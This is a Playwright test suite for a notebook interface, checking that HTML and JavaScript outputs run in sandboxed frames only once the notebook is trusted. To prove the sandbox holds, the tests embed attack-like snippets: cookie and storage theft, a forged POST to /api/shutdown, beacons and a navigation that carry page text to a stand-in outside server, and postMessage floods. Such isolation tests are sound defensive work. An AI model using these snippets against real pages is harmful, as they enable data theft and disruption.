"""Outputs that run: in frames that reach nothing, and only if somebody trusts them."""
import http.server
import json
import re
import threading
import uuid

import pytest
from nbformat.v4 import new_code_cell as code
from nbformat.v4 import new_output as out
from playwright.sync_api import expect

REFUSED = ["Content Security Policy", "sandbox", "Failed to load resource", "Refused to", "Blocked"]


def html(text, **others):
    text += f"<!-- {uuid.uuid4()} -->"
    return out("display_data", data={"text/html": text, "text/plain": "the plain text", **others})


def script(text, **others):
    text += f"\n// {uuid.uuid4()}"
    return out("display_data", data={"application/javascript": text, "text/plain": "the plain text", **others})


@pytest.fixture
def shown(page, server):
    """Opens a notebook of cells with these outputs; trusted unless that is what is tested."""
    def show(*cells, trusted=True):
        server.put(page.file, [code("x", outputs=list(outputs)) for outputs in cells])
        if trusted:
            server.json("POST", f"/api/contents/{page.file}/trust")
        else:
            expect_untrusted(server, page.file)
        page.expected_errors += REFUSED
        page.open(page.file, kernel=False)
        return page
    return show


def expect_untrusted(server, file):
    """That an earlier test has not trusted the very same outputs: trust is of outputs, not of files."""
    content = server.json("GET", f"/api/contents/{file}?type=notebook")["content"]
    assert not any(cell["metadata"]["trusted"] for cell in content["cells"])


@pytest.fixture
def elsewhere():
    """Another machine: what it is asked for is noted."""
    class Elsewhere(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            site.asked.append(self.path)
            self.send_error(404)

        do_POST = do_HEAD = do_GET

        def log_message(self, *_):
            pass

    site = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Elsewhere)
    site.asked, site.origin = [], f"http://127.0.0.1:{site.server_port}"
    threading.Thread(target=site.serve_forever, daemon=True).start()
    yield site
    site.shutdown()
    site.server_close()


def frame(page, index=0):
    return page.output(index).frame_locator("iframe")


def test_scripts_run_in_order_and_see_what_stands_before_them(page, shown):
    shown([html("<p id=place>nothing</p><script>var word = 'one'</script><script>place.textContent = word + ', two'</script>")])
    expect(frame(page).locator("#place")).to_have_text("one, two")
    expect(page.output(0)).not_to_contain_text("the plain text")


def test_javascript_has_its_element_and_draws_into_neighbours(page, shown):
    shown([html("<div id=root></div>"), script("document.getElementById('root').textContent = 'drawn'; element.append('appended')")])
    expect(page.output(0).locator("iframe")).to_have_count(1)
    expect(frame(page).locator("#root")).to_have_text("drawn")
    expect(frame(page).locator("body")).to_contain_text("appended")


def test_what_scripts_in_front_have_loaded_is_there(page, shown):
    library = html("<style>b { color: red }</style><script>window.lib = { name: 'loaded' }</script>")
    shown([library], [script("window.second = lib.name + ' twice'")], [html("<p id=p></p><script>p.textContent = lib.name + ', ' + second</script>")])
    expect(frame(page, 2).locator("#p")).to_have_text("loaded, loaded twice")


def test_scripts_are_made_of_text(page, shown):
    """As Bokeh's CustomJS does."""
    shown([html("<p id=p></p><script>new Function('place', 'place.textContent = eval(\"6 * 7\")')(document.getElementById('p'))</script>")])
    expect(frame(page).locator("#p")).to_have_text("42")


def test_the_page_makes_no_scripts_of_text(page, shown):
    shown([html("<p>drawn</p><script>1</script>")])
    tried = "() => new Promise((say) => setTimeout(() => { try { say(eval('1')) } catch (error) { say(error.name) } }))"  # later: what is asked here may
    assert page.raw.evaluate(tried) == "EvalError"


def test_document_write_adds(page, shown):
    shown([html("<p>kept</p><script>document.write('<b>writ', 'ten</b>')</script>")])
    expect(frame(page).locator("b")).to_have_text("written")
    expect(frame(page).get_by_text("kept")).to_be_visible()


def test_its_error_is_shown(page, shown):
    shown([html("<script>throw new Error('it broke')</script>")])
    page.expected_errors.append("it broke")
    expect(page.output(0)).to_contain_text("it broke")


REACHES = """<pre id=log></pre><script>
const log = (name, value) => document.getElementById('log').append(name + '=' + value + '\\n');
const attempt = (name, work) => { try { log(name, work()); } catch (error) { log(name, 'refused ' + error.name); } };
attempt('document', () => parent.document.title);
attempt('top', () => top.document.cookie);
attempt('cookie', () => document.cookie);
attempt('storage', () => localStorage.length);
attempt('session', () => sessionStorage.length);
attempt('popup', () => open('/tree') === null ? 'refused' : 'opened');
attempt('navigate', () => { top.location = '/tree'; return 'asked'; });
attempt('form', () => { const f = document.createElement('form'); f.action = '/api/shutdown'; f.method = 'post'; document.body.append(f); f.submit(); return 'asked'; });
attempt('frame', () => { const f = document.createElement('iframe'); f.src = '/tree'; document.body.append(f); return 'asked'; });
attempt('modal', () => confirm('token?'));
attempt('origin', () => origin);
fetch('/api/contents').then(() => log('fetch', 'answered'), (error) => log('fetch', 'refused ' + error.name));
const socket = (() => { try { return new WebSocket('ws://' + location.host + '/api/events/subscribe'); } catch (error) { log('socket', 'refused'); } })();
if (socket) { socket.onopen = () => log('socket', 'opened'); socket.onerror = () => log('socket', 'refused'); }
fetch('ELSEWHERE/fetch', { mode: 'no-cors' }).catch(() => log('cross', 'refused'));
navigator.sendBeacon('ELSEWHERE/beacon', 'x');
</script><img src='/files/x.png' alt=''><img src='ELSEWHERE/p.png' alt=''><script src='ELSEWHERE/s.js'></script><link rel=stylesheet href='ELSEWHERE/s.css'><link rel=preload as=image href='ELSEWHERE/pre.png'>"""


@pytest.mark.parametrize("way", ["script", "eval", "function", "timer"])
def test_a_frame_reaches_nothing(page, shown, elsewhere, way):
    """Nor does what it makes of text."""
    attack = REACHES.replace("ELSEWHERE", elsewhere.origin)
    if way != "script":
        body = re.search("<script>(.*?)</script>", attack, re.S)
        run = {"eval": "(0, eval)(%s)", "function": "new Function(%s)()", "timer": "setTimeout(%s)"}[way]
        attack = attack[:body.start(1)] + run % json.dumps(body[1]) + attack[body.end(1):]
    shown([html(attack)])
    log = frame(page).locator("#log")
    for name in ("document", "top", "cookie", "storage", "session"):
        expect(log).to_contain_text(f"{name}=refused SecurityError")
    expect(log).to_contain_text("popup=refused")
    expect(log).to_contain_text("fetch=refused TypeError")
    expect(log).to_contain_text("socket=refused")
    expect(log).to_contain_text("modal=false")
    expect(log).to_contain_text("origin=null")
    expect(log).to_contain_text("cross=refused")
    expect(page.output(0)).to_contain_text(f"{elsewhere.origin}/s.css")
    expect(page.output(0)).to_contain_text(f"{elsewhere.origin}/s.js")
    address = page.raw.url
    page.write(0, "the page lives")  # the scripts have run; what they asked for would have come by now
    assert page.raw.url == address and len(page.raw.context.pages) == 1
    assert not elsewhere.asked
    assert not [url for url in page.requests if re.search(r"/(tree|api/shutdown|api/contents|api/events|files/x.png)\b", url)]


def test_no_frame_may_have_the_origin_of_the_page(page, shown):
    shown([html("<script>1</script>")])
    element = page.output(0).locator("iframe")
    expect(element).to_have_attribute("sandbox", "allow-scripts")
    expect(element).to_have_attribute("src", "/output")


def test_a_frame_that_leaves_is_closed(page, shown, elsewhere):
    shown([html(f"<p>here</p><script>setTimeout(() => location = '{elsewhere.origin}/?what=' + document.body.textContent)</script>")])
    expect(page.output(0).get_by_role("alert")).to_contain_text("tried to leave")
    expect(page.output(0).locator("iframe")).to_have_count(0)
    assert not elsewhere.asked


def test_nor_does_it_leave_to_other_addresses_of_the_server(page, shown):
    shown([html("<script>setTimeout(() => location = '/files/other.html')</script>")])
    expect(page.output(0).get_by_role("alert")).to_contain_text("tried to leave")
    assert not [url for url in page.requests if "other.html" in url]


@pytest.mark.fresh  # the process of such a frame may live on for a while, and other frames with it
@pytest.mark.parametrize("way", ["port", "window"])
def test_a_flood_of_messages_ends(page, shown, way):
    flood = {
        "port": "MessagePort.prototype.postMessage = (post => function (...rest) { if (window.once) return; window.once = 1; for (;;) post.call(this, { say: 'error', text: 'x' + Math.random() }) })(MessagePort.prototype.postMessage);",
        "window": "for (let i = 0; i < 1e6; i++) parent.postMessage({ say: 'height', pixels: i }, '*')",
    }[way]
    shown([html(f"<p>before</p><script>{flood}</script>")])
    expect(page.output(0).get_by_role("alert")).to_contain_text("messages without end")
    page.output(0).get_by_role("button", name="Run it again").wait_for()
    page.write(0, "the page lives")
    expect(page.cell(0)).to_contain_text("the page lives")


def test_what_is_said_is_bounded(page, shown):
    shown([html("<script>for (let i = 0; i < 150; i++) setTimeout(() => { throw new Error('number ' + i + 'x'.repeat(9999)) })</script>")])
    page.expected_errors.append("number")
    notes = page.output(0).locator(".frame-note")
    expect(notes).to_have_count(20)
    assert max(len(text) for text in notes.all_text_contents()) <= 500


def test_untrusted_scripts_do_not_run_until_the_user_says_so(page, shown, server):
    shown([html("<p id=p>as it came</p><script>p.textContent = 'it ran'</script>")], trusted=False)
    expect(page.output(0)).to_contain_text("as it came")
    expect(page.output(0)).to_contain_text("do not run")
    expect(page.output(0).locator("iframe")).to_have_count(0)
    page.output(0).get_by_role("button", name="Trust this notebook").click()
    page.raw.get_by_role("dialog").get_by_role("button", name="Cancel").click()
    expect(page.output(0).locator("iframe")).to_have_count(0)
    page.output(0).get_by_role("button", name="Trust this notebook").click()
    page.raw.get_by_role("dialog").get_by_role("button", name="Trust").click()
    expect(frame(page).locator("#p")).to_have_text("it ran")
    page.open(page.file, kernel=False)
    expect(frame(page).locator("#p")).to_have_text("it ran")


def test_untrusted_javascript_is_only_named(page, shown):
    shown([script("document.title = 'stolen'")], trusted=False)
    expect(page.output(0)).to_contain_text("the plain text")
    expect(page.output(0)).to_contain_text("do not run")
    assert page.raw.title() == page.file.removesuffix(".ipynb")


def test_a_pasted_copy_is_trusted_no_more_than_what_was_copied(page, shown):
    shown([html("<p id=p>as it came</p><script>p.textContent = 'it ran'</script>")], trusted=False)
    page.select(0)
    page.press("c", "v")
    expect(page.cells).to_have_count(2)
    expect(page.output(1)).to_contain_text("do not run")
    page.save()
    page.open(page.file, kernel=False)
    for index in (0, 1):
        expect(page.output(index)).to_contain_text("do not run")
        expect(page.output(index).locator("iframe")).to_have_count(0)


def test_outputs_restored_by_undo_are_trusted_as_before(page, shown):
    shown([html("<p>as it came</p><script>1</script>")], trusted=False)
    page.raw.keyboard.press("Escape")
    page.press("p")
    page.type("clear all")
    page.press("Enter")
    expect(page.output(0)).to_have_count(0)
    page.command("z")
    expect(page.output(0)).to_contain_text("do not run")
    expect(page.output(0).locator("iframe")).to_have_count(0)


def test_the_height_follows_what_is_in_it(page, shown):
    shown([html("<div id=d style='height: 100px'></div><script>const grow = () => d.style.height = parseInt(d.style.height) + 250 + 'px'; d.onclick = grow</script>")])
    element = page.output(0).locator("iframe")
    expect(element).to_have_css("height", "100px")
    frame(page).locator("#d").click()
    expect(element).to_have_css("height", "350px")
    frame(page).locator("#d").evaluate("e => e.style.height = '80px'")
    expect(element).to_have_css("height", "80px")
    frame(page).locator("#d").evaluate("e => e.style.height = '900000px'")
    expect(element).to_have_css("height", "3000px")


def test_it_follows_light_and_dark(page, shown):
    shown([html("<p id=p>text</p><script>1</script>")])
    ink = lambda: sum(map(int, re.findall(r"\d+", frame(page).locator("#p").evaluate("e => getComputedStyle(e).color"))))
    assert ink() < 200
    page.raw.get_by_role("button", name="Light or dark").click()
    page.holds(lambda: ink() > 600)
    page.raw.get_by_role("button", name="Light or dark").click()
    page.holds(lambda: ink() < 200)


def test_links_are_offered_and_not_followed(page, shown):
    shown([html("<a href='https://example.org/x'>out</a> <a href='#there'>in</a><p id=there>target</p><script>1</script>")])
    frame(page).get_by_text("out").click()
    link = page.output(0).get_by_role("link", name="https://example.org/x")
    expect(link).to_have_attribute("rel", "noopener noreferrer")
    frame(page).get_by_text("in", exact=True).click()
    expect(frame(page).locator("#there")).to_be_visible()


def test_frames_far_away_are_given_up_and_come_back(page, shown):
    shown(*[[html(f"<div style='height: 700px'>number {i}<p class=p></p></div><script>document.querySelector('.p').textContent = 'ran'</script>")] for i in range(20)])
    frames = page.raw.locator("iframe")

    # While they are low all are near; they grow, and a cell that was in sight is not any more: whoever looks for it scrolls again.
    def reached(i):
        page.cell(i).scroll_into_view_if_needed()
        return frame(page, i).locator(".p").all_text_contents() == ["ran"]

    for i in (5, 10, 15, 19, 10, 0):
        page.holds(lambda: reached(i))
    page.holds(lambda: frames.count() <= 12)


def test_pictures_and_sound_inside_of_the_output_play(page, shown):
    shown([html("<audio controls src='data:audio/wav;base64,UklGRiQAAABXQVZFZm10IBAAAAABAAEAQB8AAEAfAAABAAgAZGF0YQAAAAA='></audio>")])
    expect(frame(page).locator("audio")).to_have_attribute("src", re.compile("^data:"))


def test_keys_come_back_by_escape(page, shown):
    shown([html("<button id=b>press</button><script>1</script>")])
    page.select(0)
    frame(page).locator("#b").click()
    page.press("Escape")
    expect(page.cell(0)).to_be_focused()
    page.press("b")
    expect(page.cells).to_have_count(2)


def test_plain_html_stays_without_a_frame(page, shown):
    shown([html("<table><tr><td>cell</td></tr></table><style>td { color: red }</style>")])
    expect(page.output(0).get_by_text("cell")).to_have_css("color", "rgb(255, 0, 0)")
    expect(page.output(0).locator("iframe")).to_have_count(0)
